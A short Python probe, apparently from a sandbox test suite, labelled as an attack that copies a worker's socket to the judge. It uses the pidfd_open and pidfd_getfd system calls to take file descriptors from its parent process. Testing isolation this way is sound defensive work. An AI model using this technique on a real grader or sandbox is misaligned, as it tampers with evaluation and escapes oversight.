# /// attack
# group = "Z1"
# says = "takes a copy of the worker's socket to the judge"
# probe = true
# ///
import ctypes
import os


def attempt():
    libc = ctypes.CDLL(None)
    handle = libc.syscall(434, os.getppid(), 0)
    return handle >= 0 and any(libc.syscall(438, handle, number, 0) >= 0 for number in range(3, 20))
